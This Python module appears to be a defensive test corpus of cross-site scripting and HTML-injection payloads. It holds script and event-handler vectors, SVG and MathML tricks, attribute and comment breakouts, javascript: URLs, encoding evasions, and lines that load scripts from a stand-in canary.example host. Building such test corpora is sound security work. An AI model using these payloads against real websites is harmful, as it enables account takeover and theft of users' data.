"""Texts with which strangers try to run scripts in the pages that show them, or to break those.

Each payload calls ``xss()`` or asks ``http://canary.example/`` for something where it is not
escaped.  Some rely on the place where a page puts them: behind a quote, in a comment, in a link.
They are bytes, since some are wrong on purpose: no encoding has them.
"""

from __future__ import annotations

from typing import Final

#: Run, load or redirect in a browser where a page shows them as they are.
ACTIVE: Final = (
    # elements
    b"<script>xss()</script>",
    b"<ScRiPt>xss()</sCrIpT>",
    b"<script src=http://canary.example/></script>",
    b"<script src=//canary.example/",
    b"<script/x>xss()</script x>",
    b"<script\x0c>xss()</script>",
    b"<scr\x00ipt>xss()</script><script>xss()</script>",
    b"<<script>xss();//<</script>",
    b"<script type=module>xss()</script>",
    b"<iframe src=javascript:parent.xss()></iframe>",
    b"<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    b'<iframe srcdoc="&lt;img src=x onerror=parent.xss()&gt;"></iframe>',
    b"<iframe src=//canary.example/></iframe>",
    b"<object data=http://canary.example/></object>",
    b"<embed src=http://canary.example/>",
    b"<base href=http://canary.example/><img src=x>",
    b"<meta http-equiv=refresh content='0;url=http://canary.example/'>",
    b"<link rel=stylesheet href=http://canary.example/>",
    b"<style>@import '//canary.example/';</style>",
    b"<style>main{background:url(//canary.example/)}</style><main>x</main>",
    b"<p style=\"background:url('//canary.example/')\">x</p>",
    b"<img src=http://canary.example/ srcset='//canary.example/ 2x'>",
    b"<form action=http://canary.example/><button autofocus onfocus=xss()>x</button></form>",
    b"<a href=x formaction=//canary.example/ onclick=xss()>x</a>",
    b"<template><script>1</script></template><img src=x onerror=xss()>",
    b"<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    # event handlers
    b"<img src=x onerror=xss()>",
    b"<img/src='x'/onerror=xss()>",
    b"<img src=x onerror\x0b=1 onerror=xss()>",
    b'<img src=x onerror="&#120;ss()">',
    b"<img src=x onerror=xss`1`>",
    b"<img src=x onerror='\\u0078ss()'>",
    b"<body onload=xss()><img src=x onerror=xss()>",
    b"<input autofocus onfocus=xss()>",
    b"<details open ontoggle=xss()>",
    b"<video><source onerror=xss()></video>",
    b"<audio src=x onerror=xss()>",
    b"<p onanimationstart=xss() style=animation:a><style>@keyframes a{}</style>",
    b"<xss id=x tabindex=1 onfocus=xss() autofocus>",
    # SVG and MathML
    b"<svg onload=xss()>",
    b"<svg/onload=xss()//",
    b"<svg><script>xss()</script></svg>",
    b"<svg><script>&#120;ss()</script></svg>",
    b"<svg><animate onbegin=xss() attributeName=x dur=1s></svg>",
    b"<svg><a href=javascript:xss()><text y=9>x</text></a><script>xss()</script></svg>",
    b"<svg><image href=http://canary.example/></svg>",
    b"<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>",
    b"<math><annotation-xml encoding='text/html'><img src=x onerror=xss()></annotation-xml>",
    # out of an attribute, an element, a comment, a section
    b'"><script>xss()</script>',
    b"'><script>xss()</script>",
    b'" autofocus onfocus=xss() x="',
    b"' autofocus onfocus=xss() x='",
    b"\"'></textarea></title></style></script><script>xss()</script>",
    b"</title><script>xss()</script>",
    b"</textarea><script>xss()</script>",
    b"</script><script>xss()</script>",
    b"--><script>xss()</script><!--",
    b"--!><img src=x onerror=xss()>",
    b"]]><script>xss()</script>",
    b"<![CDATA[><script>xss()</script>]]>",
    b"<?xml-stylesheet href='//canary.example/'?><img src=x onerror=xss()>",
    b"<!ENTITY x SYSTEM 'http://canary.example/'><img src=x onerror=xss()>",
    b"</main></header></nav><img src=x onerror=xss()><main><header><nav>",
    # line breaks of JSON and of server-sent events
    b'"}\r\n\r\ndata: <img src=x onerror=xss()>\r\n\r\n',
    b"\ndata: x\n\n<script>xss()</script>",
    b"\xe2\x80\xa8</script><script>xss()</script>\xe2\x80\xa9",
    # addresses
    b"javascript:xss()",
    b"JaVaScRiPt:xss()",
    b"java\tscript:xss()",
    b"java\nscript:xss()",
    b"\x01javascript:xss()",
    b" javascript:xss()",
    b"javascript://site.example/%0Axss()",
    b"javascript&colon;xss()",
    b"&#106;avascript&#58;xss()",
)

#: Harmless in today's browsers, or dangerous only to a part that decodes them once more: template
#: engines, old browsers, parsers of URLs and of XML, and people who read.
INERT: Final = (
    b"vbscript:xss()",
    b"data:text/html,<script>xss()</script>",
    b"data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    b"{{constructor.constructor('xss()')()}}",
    b"${xss()}<%= xss() %>#{xss()}[[${xss()}]]",
    b'<t:slot name="title"/><t:attr name="onload">xss()</t:attr>',
    b"+ADw-script+AD4-xss()+ADw-/script+AD4-",
    b"\xc0\xbcscript\xc0\xbexss()\xc0\xbc/script\xc0\xbe",
    b"\xe0\x80\xbcscript>xss()\xe0\x80\xbc/script>",
    b"\xef\xbc\x9cscript\xef\xbc\x9exss()\xef\xbc\x9c/script\xef\xbc\x9e",
    b"\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00",
    b"%3Cscript%3Exss()%3C/script%3E",
    b"%253Cscript%253Exss()%253C/script%253E",
    b"&lt;script&gt;xss()&lt;/script&gt;",
    b"&amp;lt;script&amp;gt;xss()",
    b"\\u003cscript\\u003exss()\\x3c/script\\x3e",
    b"\x00\x01\x02\x08\x1b[31mxss()\x7f\xc2\x85",
    b"\xe2\x80\xae)(ssx\xe2\x80\xac\xe2\x81\xa6xss()",
    b"\xd7\x90\xd7\x91\xe2\x80\xaegpj.exe\xe2\x80\x8f",
    b"\xef\xbb\xbf\xe2\x80\x8b\xe2\x80\x8d\xcc\x81\xcc\x82\xcc\x83\xcc\x84\xcc\x85",
    b"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;svg onload=xss()&gt;'>",
    b"<!--[if IE]><script>xss()</script><![endif]",
    b"<plaintext><xmp><listing>",
    b'<a href="http://canary.example/',
    b"X-Header: 1\r\nSet-Cookie: a=b\r\n\r\n<html>xss()",
)


def numbered() -> list[bytes]:
    """All payloads, each with its number in its calls and addresses."""
    return [
        payload.replace(b"xss()", b"xss(%d)" % number)
        .replace(b"xss`1`", b"xss`%d`" % number)
        .replace(b"ss()", b"ss(%d)" % number)
        .replace(b"canary.example/", b"canary.example/%d" % number)
        for number, payload in enumerate((*ACTIVE, *INERT))
    ]
